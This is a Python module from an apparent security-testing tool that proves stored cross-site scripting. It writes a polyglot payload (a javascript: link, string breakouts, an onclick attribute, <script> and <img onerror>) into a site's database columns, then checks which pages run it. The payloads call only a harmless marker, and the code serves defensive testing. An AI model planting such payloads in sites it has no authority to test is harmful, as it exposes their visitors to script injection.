"""Text of a stranger's that is stored in the site's database and becomes code on a page.

One payload, for there is one column and nobody knows where a page shows it: each of its parts is
code in one kind of place and harmless text in the others, and calls with an id of its own.
"""

from __future__ import annotations

from collections.abc import Callable, Collection, Iterable, Mapping, Sequence
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING
from weakref import WeakKeyDictionary

from ringfence.prove.stage import Attack, Outcome, Place, Result, Target, new_number

if TYPE_CHECKING:
    from ringfence.prove.discover.survey import Page, Survey
    from ringfence.prove.stage import Stage, VisitLike

__all__ = ["MARKUP", "WAYS", "attack", "payload", "ways_of"]

_BINDING = "ringfence"

#: What the escaping ring writes where a value could not stand (its documentation).
_PLACEHOLDER = "ringfence-refused"

_LINK, _STRING, _ATTRIBUTE, _SCRIPT, _IMAGE = "1", "2", "3", "4", "5"

#: How to tell by which way a payload ran: its last digit, and whether something was pressed. Each
#: returns the id with which it fired, "" where it did not.
WAYS: dict[str, Callable[[VisitLike, str], str]] = {
    "script": lambda visit, number: _of(visit.fired, number + _SCRIPT, number + _IMAGE),
    "handler": lambda visit, number: _of(visit.on_press, number + _STRING),
    "link": lambda visit, number: _of(visit.on_press, number + _LINK),
    "attribute": lambda visit, number: _of(visit.fired, number + _ATTRIBUTE),
    "string": lambda visit, number: _of(visit.on_load, number + _STRING),
}

#: The ways that only run once something is pressed.
_PRESSED = frozenset({"handler", "link"})

#: The ways of a payload that is markup; the others need none.
MARKUP = frozenset({"script"})


def payload(number: str, *, markup: bool) -> str:
    """Return text that runs in a link, in a string of a script or handler, or out of an attribute.

    With ``markup`` it is a script and a picture's handler instead. Short enough for the usual
    column.

    >>> len(payload("123456789", markup=False)), len(payload("123456789", markup=True))
    (141, 80)
    """
    if markup:
        return (
            f"<script>{_BINDING}({number}{_SCRIPT})</script>"
            f"<img src=x: onerror={_BINDING}({number}{_IMAGE})>"
        )
    string = f"{_BINDING}({number}{_STRING})"
    return (
        f"javascript:{_BINDING}({number}{_LINK})//"
        f"'-{string}-'\"-{string}-\"${{{string}}}"
        f" onclick={_BINDING}({number}{_ATTRIBUTE}) x="
    )


def _of(fired: Collection[str], *identifiers: str) -> str:
    return next((each for each in identifiers if each in fired), "")


def ways_of(visit: VisitLike, number: str) -> list[str]:
    """Return the ways by which the payload with that number ran."""
    return [name for name, ran in WAYS.items() if ran(visit, number)]


def attack(name: str, *, title: str, stopped_by: tuple[str, ...], fix: str) -> Attack:
    """Return the attack by the way called ``name``."""
    markup = name in MARKUP
    size = len(payload(new_number(), markup=markup))

    def find(survey: Survey) -> tuple[Target, ...] | str:
        columns = [c for c, length in survey.columns if length is None or length >= size]
        if not columns:
            return "no text column that has a row and room for a payload was found"
        return tuple(Target("", column, column=column) for column in columns)

    def strike(stage: Stage, targets: Sequence[Target]) -> Sequence[Result]:
        volley = _volley(stage, targets, markup=markup)
        return [volley.result(name, target) for target in targets]

    return Attack(
        name=name,
        title=title,
        cwe="CWE-79",
        stopped_by=stopped_by,
        find=find,
        strike=strike,
        use=_use,
        fix=fix,
        guess=True,
        changes=True,
    )


@dataclass(slots=True)
class _Shot:
    """A visit at which payloads may have run, and what fired of it."""

    path: str
    visitor: str
    visit: VisitLike
    #: By the id that fired, and whether it did when the page was pressed: what wrote it.
    places: Mapping[tuple[str, bool], Place | None]
    picture: bytes = field(default=b"", repr=False)


@dataclass(slots=True)
class _Volley:
    """Numbers by the labels of targets, those that could not be stored, and the visits."""

    numbers: dict[str, str]
    refused: set[str]
    shots: list[_Shot] = field(default_factory=list)

    def result(self, name: str, target: Target) -> Result:
        """Say what came of one target by the way called ``name``."""
        number = self.numbers[target.label]
        last: Result | None = None
        for shot in self.shots:
            if target.path and (shot.path, shot.visitor) != (target.path, target.visitor):
                continue
            identifier = WAYS[name](shot.visit, number)
            if identifier:
                pressed = identifier not in shot.visit.on_load or name in _PRESSED
                return _ran(name, target, shot, shot.places.get((identifier, pressed)))
            if target.path:
                last = _stopped(shot.visit, number)
        if last is not None:
            return last
        if target.label in self.refused:
            return Result(Outcome.INCONCLUSIVE, "not stored", f"{target.column} takes no such text")
        return Result(Outcome.STOPPED, "not run", "nothing ran on any page")


#: What a stage was given, by whether it is markup: four ways share one payload.
_KNOWN: WeakKeyDictionary[Stage, dict[tuple[object, ...], _Volley]] = WeakKeyDictionary()


def _volley(stage: Stage, targets: Sequence[Target], *, markup: bool) -> _Volley:
    """Store the payload in every target's column, and look at the pages that may show it."""
    key = (markup, *((target.label, target.path, target.visitor) for target in targets))
    known = _KNOWN.setdefault(stage, {})
    if key not in known:
        known[key] = _fire(stage, targets, markup=markup)
    return known[key]


def _fire(stage: Stage, targets: Sequence[Target], *, markup: bool) -> _Volley:
    volley = _Volley({target.label: new_number() for target in targets}, set())
    stage.trace(volley.numbers.values())
    for target in targets:
        text = payload(volley.numbers[target.label], markup=markup)
        if not stage.poison(target.column or "", text):
            volley.refused.add(target.label)
    aimed = all(target.path for target in targets)
    seen: set[str] = set()
    first = _first_of_their_kind(stage.survey.html_pages())
    for visitor, paths in _where(stage, targets).items():
        for path in paths:
            # Again for each page: one may have logged him out.
            stage.become(visitor)
            if not aimed and not _may_show(stage, path, visitor, volley, seen, alone=path in first):
                continue
            visit = stage.visit(stage.url(path), press=True)
            fired = {(each, False): stage.place(each) for each in visit.on_load}
            fired |= {(each, True): stage.place(each, pressed=True) for each in visit.on_press}
            picture = stage.picture() if fired else b""
            volley.shots.append(_Shot(path, visitor, visit, fired, picture))
    return volley


def _where(stage: Stage, targets: Sequence[Target]) -> dict[str, list[str]]:
    """Return the pages to look at, by visitor: those of the targets, else all."""
    places: dict[str, list[str]] = {}
    pages: Iterable[tuple[str, str]] = [(t.visitor, t.path) for t in targets if t.path]
    if any(not target.path for target in targets):
        pages = [(page.visitor, page.path) for page in stage.survey.html_pages()]
    for visitor, path in dict.fromkeys(pages):
        places.setdefault(visitor, []).append(path)
    return places


def _may_show(
    stage: Stage, path: str, visitor: str, volley: _Volley, seen: set[str], *, alone: bool
) -> bool:
    """Whether a page is worth a browser's visit: it has the text from a place that none had yet.

    Where a page has not the text itself, its scripts may fetch it: ``alone`` says that it is the
    first of its kind.
    """
    answer = stage.ask("GET", path, visitor=visitor)
    shown = answer.written or {n for n in volley.numbers.values() if n in answer.text}
    if shown <= seen:
        return not shown and alone and "<script" in answer.text
    seen |= shown
    return True


def _first_of_their_kind(pages: Sequence[Page]) -> frozenset[str]:
    kinds: dict[tuple[str, str], str] = {}
    for page in pages:
        kinds.setdefault((page.pattern, page.visitor), page.path)
    return frozenset(kinds.values())


def _ran(name: str, target: Target, shot: _Shot, place: Place | None) -> Result:
    where = replace(
        target,
        path=shot.path,
        visitor=shot.visitor,
        label=f"{target.column} at {shot.path}",
    )
    return Result(
        Outcome.SUCCEEDED,
        "ran",
        f"the stored text ran as a {name} in the {shot.visitor}'s page",
        place=place,
        target=where,
        picture=shot.picture,
    )


def _stopped(visit: VisitLike, number: str) -> Result:
    if visit.error is not None or visit.status >= 500 or visit.status == 0:
        return Result(
            Outcome.INCONCLUSIVE, "crash", f"the page did not load: {visit.error or visit.status}"
        )
    # Held here, not only in `use`: the page must have carried this very payload.
    if number not in visit.source and _PLACEHOLDER not in visit.source:
        return Result(Outcome.INCONCLUSIVE, "absent", "the page does not carry the stored text")
    why = f" ({visit.blocked[0]})" if visit.blocked else ""
    return Result(Outcome.STOPPED, "not run", f"the page carries the payload and nothing ran{why}")


def _use(stage: Stage, target: Target) -> str | None:
    answer = stage.ask("GET", target.path, visitor=target.visitor)
    if not answer.error and answer.status < 400:
        return None
    return f"the page does not load ({answer.error or answer.status})"
